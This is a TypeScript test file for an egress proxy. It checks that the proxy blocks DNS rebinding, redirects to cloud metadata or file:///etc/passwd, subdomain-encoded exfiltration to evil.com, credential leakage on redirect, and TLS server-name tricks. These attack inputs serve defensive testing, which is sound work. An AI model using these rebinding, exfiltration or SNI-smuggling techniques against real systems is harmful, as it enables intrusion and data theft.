/** Attacks by names: rebinding, mixed answers, names as a channel, names hidden in TLS. */

import { connect, createServer, type Server } from 'node:net'
import { duplexPair } from 'node:stream'
import { createServer as createTls, connect as tlsConnect } from 'node:tls'
import { afterEach, describe, expect, it } from 'vitest'
import { fetchGuarded } from '../../../src/egress/fetch.ts'
import { createUpstream, type Route } from '../../../src/egress/route/upstream.ts'
import { helloReader } from '../../../src/egress/wire/client-hello.ts'
import type { Resolver } from '../../../src/system/dns.ts'
import { createWorld, hosts, PUBLIC_ADDRESS, RawClient, type World } from '../../contract/egress/world.ts'
import { clientHello } from './hello.ts'

const ALLOW = hosts('github.com', 'python.org', 'a.rebind.test', '*.rebind.test', '*.example.org')
let world: World

afterEach(() => world.close())

describe('resolution', () => {
  const rows: { name: string; answer: readonly string[]; note: string }[] = [
    { name: 'private', answer: ['10.0.0.1'], note: 'RFC 1918' },
    { name: 'loopback', answer: ['127.0.0.1'], note: 'a public name that points home' },
    { name: 'metadata', answer: ['169.254.169.254'], note: 'cloud credentials' },
    { name: 'mixed', answer: [PUBLIC_ADDRESS, '10.0.0.1'], note: 'one bad address spoils the answer' },
    { name: 'mixed-v6', answer: [PUBLIC_ADDRESS, '::1'], note: 'the bad one is IPv6' },
    { name: 'mapped', answer: ['::ffff:10.0.0.1'], note: 'IPv4 inside IPv6' },
    { name: 'nat64', answer: ['64:ff9b::7f00:1'], note: 'NAT64 of loopback' },
    { name: 'cgnat', answer: ['100.64.0.1'], note: 'carrier-grade NAT' },
    { name: 'unspecified', answer: ['0.0.0.0'], note: 'means this machine on Linux' },
    { name: 'multicast', answer: ['224.0.0.1'], note: 'nobody in particular' },
    { name: 'garbage', answer: ['not an address'], note: 'a resolver gone wrong' },
    { name: 'nothing', answer: [], note: 'no such host' },
  ]
  it.each(rows)('$name is refused ($note)', async ({ answer }) => {
    world = createWorld({ names: { 'github.com': answer } })
    await world.serveHttps((_, response) => response.end('reached'))
    const { port } = await world.open({ allowed: ALLOW })
    const client = await RawClient.connect(port)
    expect(await client.tunnel('github.com:443')).not.toContain(' 200 ')
    client.close()
    expect(world.events.map((event) => event.verdict)).not.toContain('allow')
  })

  it('dials what it judged, though the name changes its answer at once', async () => {
    const dialled: Route[] = []
    let asked = 0
    const resolver: Resolver = { resolve: async () => (asked++ === 0 ? [PUBLIC_ADDRESS] : ['127.0.0.1']) }
    world = createWorld({ resolver })
    const spy = world
    const upstream = createUpstream({
      trust: [world.authority.pem],
      dialer: (route) => {
        dialled.push(route)
        return spy.upstream.dialer(route)
      },
    })
    await world.serveHttps((_, response) => response.end('reached'))
    const { port } = await world.open({ allowed: ALLOW }, { upstream })
    const client = await RawClient.connect(port)
    await client.tunnel('github.com:443')
    const inside = await client.encrypt({ ca: world.ca.pem, servername: 'github.com' })
    for (const _ of [1, 2, 3]) {
      inside.send('GET / HTTP/1.1\r\nHost: github.com\r\n\r\n')
      expect(await inside.receive((text) => text.includes('reached'))).toContain(' 200 ')
    }
    expect(asked).toBe(1)
    expect(dialled.flatMap((route) => route.addresses)).toEqual([PUBLIC_ADDRESS])
    inside.close()
    const second = await RawClient.connect(port)
    expect(await second.tunnel('github.com:443')).toContain(' 403 ')
    second.close()
  })

  it('never asks DNS about a host that is not granted, so that names carry nothing out', async () => {
    const asked: string[] = []
    const resolve = async (host: string) => {
      asked.push(host)
      return [PUBLIC_ADDRESS]
    }
    world = createWorld({ resolver: { resolve } })
    const { port } = await world.open({ allowed: ALLOW })
    for (const request of ['CONNECT c2VjcmV0.evil.com:443', 'GET http://c2VjcmV0.evil.com/']) {
      const client = await RawClient.connect(port)
      const host = /[\w.]*evil\.com(:443)?/.exec(request)![0]
      client.send(`${request} HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
      expect(await client.receive()).toContain('host-unlisted')
    }
    expect(asked).toEqual([])
  })

  it('judges every redirect of a fetch, and what it resolves to', async () => {
    world = createWorld({ names: { 'github.com': [PUBLIC_ADDRESS], 'python.org': ['10.0.0.8'] } })
    const { resolver, upstream } = world
    const places: Record<string, string> = {
      '/private': 'http://192.168.0.1/',
      '/metadata': 'http://169.254.169.254/latest/meta-data/',
      '/rebound': 'https://python.org/',
      '/unlisted': 'https://evil.com/',
      '/file': 'file:///etc/passwd',
      '/relative': '/end',
      '/loop': '/loop',
    }
    await world.serveHttps((message, response) => {
      const location = places[message.url!]
      if (location === undefined) response.end(`end of ${message.headers.authorization ?? 'nobody'}`)
      else response.writeHead(302, { location }).end()
    })
    const rules = { command: 'webfetch', allowed: ALLOW, denied: [], allowPrivate: false }
    const fetched = async (path: string) => {
      const result = await fetchGuarded(`https://github.com${path}`, {
        rules,
        resolver,
        upstream,
        headers: { authorization: 'me' },
      })
      return 'refusal' in result ? result.refusal.code : `${result.response.status} ${result.response.body}`
    }
    expect(await fetched('/private')).toBe('host-private')
    expect(await fetched('/metadata')).toBe('host-metadata')
    expect(await fetched('/rebound')).toBe('host-private')
    expect(await fetched('/unlisted')).toBe('host-unlisted')
    expect(await fetched('/file')).toBe('url-invalid')
    expect(await fetched('/relative')).toBe('200 end of me')
    expect(await fetched('/loop')).toBe('too-many-hops')
  })

  it.each([
    { name: 'another host', location: 'https://x.example.org/', kept: false },
    { name: 'another port', location: 'https://github.com:8443/', kept: false },
    { name: 'plain HTTP', location: 'http://github.com/', kept: false },
    { name: 'the same origin', location: '/end', kept: true },
  ])('takes no credential along to $name, whatever header it is in', async ({ location, kept }) => {
    world = createWorld()
    const { resolver, upstream } = world
    const seen: Record<string, unknown>[] = []
    const answer: Parameters<World['serveHttp']>[0] = (message, response) => {
      if (message.url === '/first') return void response.writeHead(302, { location }).end()
      seen.push(message.headers)
      response.end()
    }
    await world.serveHttps(answer)
    await world.serveHttps(answer, 8443)
    await world.serveHttp(answer)
    const allowed = [...ALLOW, ...hosts('github.com:8443')]
    const rules = { command: 'webfetch', allowed, denied: [], allowPrivate: false }
    const secret = { authorization: 'a', cookie: 'b', 'x-api-key': 'c', 'private-token': 'd', 'x-goog-api-key': 'e' }
    const headers = { ...secret, accept: 'text/html' }
    await fetchGuarded('https://github.com/first', { rules, resolver, upstream, headers })
    expect(seen).toHaveLength(1)
    expect(seen[0]).toMatchObject({ accept: 'text/html', ...(kept && secret) })
    if (!kept) for (const name of Object.keys(secret)) expect(seen[0]).not.toHaveProperty(name)
  })
})

describe('names in TLS', () => {
  const rows: { name: string; hello: Buffer; reached: boolean; note: string }[] = [
    {
      name: 'ECH, outer name another',
      hello: clientHello({ serverName: 'cloudflare-ech.com', encrypted: true }),
      reached: false,
      note: 'the outer name must be the tunnel host',
    },
    {
      name: 'outer name the host, ECH inside',
      hello: clientHello({ serverName: 'github.com', encrypted: true }),
      reached: true,
      note: 'the hidden name ends here: our own TLS goes to the host',
    },
    {
      name: 'two names',
      hello: clientHello({ serverNames: ['github.com', 'evil.com'] }),
      reached: false,
      note: 'which one would the host take?',
    },
    {
      name: 'the extension twice',
      hello: clientHello({ serverName: 'github.com', repeated: 'evil.com' }),
      reached: false,
      note: 'RFC 8446 forbids it',
    },
    {
      name: 'a zero byte',
      hello: clientHello({ serverName: 'github.com\0.evil.com' }),
      reached: false,
      note: 'C strings end there',
    },
  ]
  it.each(rows)('$name ($note)', async ({ hello, reached }) => {
    world = createWorld()
    const { port } = await world.open({ allowed: ALLOW })
    const client = await RawClient.connect(port)
    await client.tunnel('github.com:443')
    client.send(hello)
    // A handshake record is a server hello; an alert is 0x15.
    const answer = await client.receive((text) => text.length > 0)
    expect(answer.charCodeAt(0)).toBe(reached ? 0x16 : 0x15)
    client.close()
  })

  it('refuses an encrypted hello where TLS is passed through unread', async () => {
    world = createWorld()
    await world.serveHttps((_, response) => response.end('reached'))
    const { port } = await world.open({ allowed: [...ALLOW, ...hosts({ host: 'github.com', tls: 'pass' })] })
    const hidden = await RawClient.connect(port)
    await hidden.tunnel('github.com:443')
    hidden.send(clientHello({ serverName: 'github.com', encrypted: true }))
    expect((await hidden.receive()).charCodeAt(0)).toBe(0x15)
    expect(world.events.at(-1)?.code).toBe('hidden-name')
    const open = await RawClient.connect(port)
    await open.tunnel('github.com:443')
    // The host's own certificate, not one of the session.
    const inside = await open.encrypt({ ca: world.authority.pem, servername: 'github.com' })
    inside.send('GET / HTTP/1.1\r\nHost: github.com\r\nConnection: close\r\n\r\n')
    expect(await inside.receive()).toContain('reached')
  })

  describe('passed through unread', () => {
    /** As long as the granted name, so that it can take its place. */
    const EVIL = 'evil12.com'

    /** A host that wants a key share of another kind than clients send first, and notes each name that it is asked for. */
    async function open() {
      world = createWorld()
      const asked: string[] = []
      const options = { ...world.authority.issue('default.test'), ecdhCurve: 'P-256' }
      const server = createTls({ ...options, SNICallback: world.authority.contexts() }, (socket) =>
        socket.on('error', () => {}).end('reached'),
      )
      server.on('tlsClientError', () => {})
      const inner = await world.serve(8443, server as unknown as Server)
      const outer = createServer((socket) => {
        const host = connect(inner, '127.0.0.1')
        socket.on('data', (piece) => asked.push(...(piece.toString('latin1').match(/github\.com|evil12\.com/g) ?? [])))
        socket
          .on('error', () => {})
          .pipe(host.on('error', () => {}))
          .pipe(socket)
      })
      const own = await world.serve(443, outer)
      const { port } = await world.open({ allowed: hosts({ host: 'github.com', tls: 'pass' }) })
      return { asked, port, own }
    }

    /** Connects, and lets `change` rewrite each piece that the client sends. */
    async function connectThrough(port: number, tunnelled: boolean, change: (piece: Buffer, at: number) => Buffer) {
      const client = await RawClient.connect(port)
      if (tunnelled) await client.tunnel('github.com:443')
      client.socket.removeAllListeners('data')
      const [near, far] = duplexPair()
      let pieces = 0
      far.on('data', (piece: Buffer) => client.socket.write(change(piece, pieces++)))
      far.once('end', () => client.socket.end())
      client.socket.on('data', (piece) => far.write(piece))
      client.socket.once('close', () => far.end())
      const tls = tlsConnect({
        socket: near,
        ca: world.authority.pem,
        servername: 'github.com',
        minVersion: 'TLSv1.3',
        ecdhCurve: 'X25519:P-256',
      })
      let said = ''
      tls.on('data', (piece) => {
        said += piece
      })
      await new Promise((resolve) => tls.once('error', resolve).once('end', resolve).once('close', resolve))
      client.close()
      return said
    }

    const renamed = (piece: Buffer) => Buffer.from(piece.toString('latin1').replace('github.com', EVIL), 'latin1')

    it('names its host in the second hello too, which a HelloRetryRequest asks for', async () => {
      const { asked, port, own } = await open()
      expect(await connectThrough(port, true, (piece) => piece)).toBe('reached')
      expect(asked).toEqual(['github.com', 'github.com'])
      asked.length = 0
      await connectThrough(port, true, (piece, at) => (at === 0 ? piece : renamed(piece)))
      await expect.poll(() => world.events.at(-1)).toMatchObject({ verdict: 'deny', code: 'name-mismatch' })
      expect(asked).toEqual(['github.com'])
      // Control: without Cordon the host is asked for the other name.
      asked.length = 0
      await connectThrough(own, false, (piece, at) => (at === 0 ? piece : renamed(piece)))
      expect(asked).toContain(EVIL)
    })

    it('withholds a second hello that comes with the first', async () => {
      const { asked, port } = await open()
      let first: Buffer = Buffer.alloc(0)
      await connectThrough(port, true, (piece, at) => {
        if (at === 0) first = piece
        return at === 0 ? Buffer.concat([piece, renamed(first)]) : Buffer.alloc(0)
      })
      await expect.poll(() => world.events.at(-1)).toMatchObject({ code: 'name-mismatch' })
      expect(asked).toEqual(['github.com'])
    })

    it('takes no second hello that follows in the record of the first', async () => {
      const { asked, port } = await open()
      await connectThrough(port, true, (piece, at) => {
        const both = Buffer.concat([piece.subarray(5), renamed(piece).subarray(5)])
        const head = Buffer.from([...piece.subarray(0, 3), both.length >> 8, both.length & 255])
        return at === 0 ? Buffer.concat([head, both]) : piece
      })
      expect(asked).toEqual([])
    })

    it('is not negotiated again, where the next hello would be encrypted', async () => {
      const { port, own } = await open()
      const negotiate = async (to: number, tunnelled: boolean) => {
        const client = await RawClient.connect(to)
        if (tunnelled) await client.tunnel('github.com:443')
        const tls = tlsConnect({
          socket: client.socket,
          ca: world.authority.pem,
          servername: 'github.com',
          maxVersion: 'TLSv1.2',
        })
        await new Promise((resolve) => tls.once('secureConnect', resolve))
        const again = await new Promise<boolean>((resolve) => {
          tls.on('error', () => resolve(false)).once('close', () => resolve(false))
          tls.renegotiate({}, (error) => resolve(error === null))
        })
        tls.destroy()
        return again
      }
      const server = createTls({ ...world.authority.issue('github.com'), maxVersion: 'TLSv1.2' }, (socket) =>
        socket.on('error', () => {}).resume(),
      )
      const older = await world.serve(443, server as unknown as Server)
      expect(own).not.toBe(older)
      expect(await negotiate(port, true)).toBe(false)
      await expect.poll(() => world.events.at(-1)).toMatchObject({ verdict: 'deny', code: 'hidden-name' })
      // Control: without Cordon it is.
      expect(await negotiate(older, false)).toBe(true)
    })
  })

  it('reads a hello that comes byte by byte, and in several records', async () => {
    world = createWorld()
    const { port } = await world.open({ allowed: ALLOW })
    const whole = clientHello({ serverName: 'evil.com' })
    const body = whole.subarray(5)
    const record = (part: Buffer) =>
      Buffer.concat([Buffer.from([0x16, 3, 1, part.length >> 8, part.length & 255]), part])
    const split = Buffer.concat([record(body.subarray(0, 3)), record(body.subarray(3, 60)), record(body.subarray(60))])
    expect({ ...helloReader()(split), used: whole.length }).toEqual(helloReader()(whole))
    const client = await RawClient.connect(port)
    await client.tunnel('github.com:443')
    for (const byte of split) {
      client.send(Buffer.from([byte]))
      await new Promise(setImmediate)
    }
    expect((await client.receive()).charCodeAt(0)).toBe(0x15)
    expect(world.events.at(-1)?.code).toBe('name-mismatch')
  })
})
